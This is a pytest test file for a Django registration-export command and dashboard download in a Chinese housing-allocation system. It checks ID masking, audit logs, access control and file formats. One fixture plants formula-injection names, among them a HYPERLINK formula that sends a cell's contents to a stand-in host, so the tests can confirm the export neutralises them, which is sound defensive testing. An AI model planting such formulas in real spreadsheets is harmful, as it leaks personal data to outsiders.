"""export_registrations and the dashboard's download: one row per active registration, IDs masked."""

import csv
from io import StringIO

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from accounts.models import AuditLog
from registrations.exports import HEADERS
from registrations.services import registration_cancel

from .conftest import id_number, rush

pytestmark = pytest.mark.django_db


@pytest.fixture
def registered(quick_project, clerk):
    made = rush(quick_project.plan, [quick_project], 5, [0, 1, 2], clerk)
    registration_cancel(registration=made[1], actor=clerk)
    return [r for i, r in enumerate(made) if i != 1]


def export(*args) -> str:
    out = StringIO()
    call_command("export_registrations", *args, stdout=out)
    return out.getvalue()


def rows_of(path) -> list[list]:
    sheet = load_workbook(path, read_only=True).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_it_writes_an_xlsx_with_one_row_per_active_registration_and_masked_ids(tmp_path, registered):
    path = tmp_path / "out.xlsx"
    said = export("KS2026-01", "--output", str(path))
    rows = rows_of(path)
    assert rows[0] == HEADERS
    assert [r[0] for r in rows[1:]] == [r.number for r in sorted(registered, key=lambda r: r.created_at)]
    first = rows[1]
    assert first[1] == "GLH2027000000" and first[2] == "家庭0"
    assert first[3] == id_number(0)[:4] + "*" * 10 + id_number(0)[-4:]
    assert first[4] == "XM-KS-01家园" and first[5] == "一居室" and first[8] == "网上登记"
    assert not any(id_number(i) in str(r) for r in rows for i in range(5))
    assert "4 条有效登记" in said and "身份证号已打码" in said
    assert AuditLog.objects.get(action="导出登记名单").details["full_id"] is False


def test_full_ids_are_exported_only_when_asked_and_audited(tmp_path, registered):
    path = tmp_path / "full.xlsx"
    export("KS2026-01", "--full-id", "--output", str(path))
    assert rows_of(path)[1][3] == id_number(0)
    audit = AuditLog.objects.get(action="导出登记名单（完整身份证号）")
    assert audit.actor_label.startswith("命令行（") and audit.details["rows"] == 4
    assert audit.target_repr.endswith("（KS2026-01）")


def test_assisted_registrations_name_the_clerk(tmp_path, quick_project, clerk, walk_in_no_phone):
    from registrations.models import Registration
    from registrations.services import registration_create

    registration_create(filing=walk_in_no_phone, actor=clerk, project=quick_project, unit_type="一居室",
                        acknowledged=True, channel=Registration.Channel.ASSISTED, clerk=clerk, consent="x")
    path = tmp_path / "out.xlsx"
    export("KS2026-01", "--output", str(path))
    assert rows_of(path)[1][8:] == ["现场协助登记", "窗口小李"]


def test_csv_is_utf8_with_a_bom_for_excel(tmp_path, registered):
    path = tmp_path / "out.csv"
    export("KS2026-01", "--format", "csv", "--output", str(path))
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0] == HEADERS and len(rows) == 5


def test_an_empty_plan_exports_just_the_headers(tmp_path, quick_project):
    path = tmp_path / "empty.xlsx"
    assert "0 条有效登记" in export("KS2026-01", "--output", str(path))
    assert rows_of(path) == [HEADERS]


def test_an_unknown_plan_is_a_clear_error_and_writes_nothing(tmp_path, quick_project):
    path = tmp_path / "x.xlsx"
    with pytest.raises(CommandError, match="未找到计划编号为“NOPE”的配租计划。现有计划编号：KS2026-01"):
        export("NOPE", "--output", str(path))
    assert not path.exists() and not AuditLog.objects.exists()


def test_a_missing_output_directory_is_a_clear_error(tmp_path, quick_project):
    with pytest.raises(CommandError, match="输出目录不存在"):
        export("KS2026-01", "--output", str(tmp_path / "no" / "x.xlsx"))


def test_the_plan_manager_downloads_it_masked_from_the_dashboard(manager_client, plan_manager, registered, tmp_path):
    plan = registered[0].plan
    response = manager_client.get(f"/admin/registrations/registration/dashboard/{plan.pk}/export.xlsx")
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"] and "KS2026-01" in response["Content-Disposition"]
    path = tmp_path / "download.xlsx"
    path.write_bytes(response.content)
    rows = rows_of(path)
    assert len(rows) == 5 and "*" in rows[1][3]
    assert AuditLog.objects.get(action="导出登记名单").actor == plan_manager


def test_others_cannot_download_it(clerk_client, auditor_client, family_client, quick_project):
    url = f"/admin/registrations/registration/dashboard/{quick_project.plan_id}/export.xlsx"
    assert clerk_client.get(url).status_code == 403
    assert auditor_client.get(url).status_code == 403
    assert family_client.get(url)["Location"].startswith("/admin/login/")
    assert not AuditLog.objects.exists()


@pytest.fixture
def formula_family(quick_project, clerk):
    """A walk-in whose name and project name an attacker chose to look like formulas."""
    from registrations.services import registration_create
    from tests.conftest import make_filing_row

    quick_project.name = "＝HYPERLINK(\"http://x.example/?\"&D2)"
    quick_project.save()
    names = ["=HYPERLINK(\"http://x.example/?\"&D2,\"点击\")", "+1+1", "-2+3", "@SUM(A1)", "＠SUM(A1)",
             "\tcmd", "\r=1", "＋1", "－1"]
    for i, name in enumerate(names):
        filing = make_filing_row(f"GLH2028{i:06d}", id_number=id_number(500 + i), applicant_name=name)
        registration_create(filing=filing, actor=clerk, project=quick_project, unit_type="一居室", acknowledged=True)
    return names


def test_no_exported_xlsx_cell_is_a_formula(tmp_path, formula_family):
    path = tmp_path / "out.xlsx"
    export("KS2026-01", "--output", str(path))
    sheet = load_workbook(path).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert cells and all(c.data_type == "s" for c in cells if c.value is not None)
    names = sorted(row[2].value for row in sheet.iter_rows(min_row=2))
    # XML reads a stored CR back as LF; what matters is the apostrophe in front of it.
    assert names == sorted("'" + n.replace("\r", "\n") for n in formula_family)
    assert {row[4].value for row in sheet.iter_rows(min_row=2)} == {"'＝HYPERLINK(\"http://x.example/?\"&D2)"}


def test_no_exported_csv_cell_starts_like_a_formula(tmp_path, formula_family):
    path = tmp_path / "out.csv"
    export("KS2026-01", "--format", "csv", "--output", str(path))
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))[1:]
    starts = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
    assert rows and not [cell for row in rows for cell in row if cell.startswith(starts)]
    assert sorted(r[2] for r in rows) == sorted("'" + n for n in formula_family)


def test_the_dashboards_download_is_neutralised_too(manager_client, formula_family, tmp_path, quick_project):
    response = manager_client.get(f"/admin/registrations/registration/dashboard/{quick_project.plan_id}/export.xlsx")
    path = tmp_path / "download.xlsx"
    path.write_bytes(response.content)
    sheet = load_workbook(path).active
    assert all(c.data_type == "s" for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None)
    assert not [c.value for row in sheet.iter_rows(min_row=2) for c in row if str(c.value).startswith("=")]


def test_the_plan_code_is_found_whatever_its_case(tmp_path, registered):
    path = tmp_path / "out.csv"
    assert "的 4 条有效登记" in export(" ks2026-01 ", "--format", "csv", "--output", str(path))
    assert len(path.read_text(encoding="utf-8-sig").splitlines()) == 5
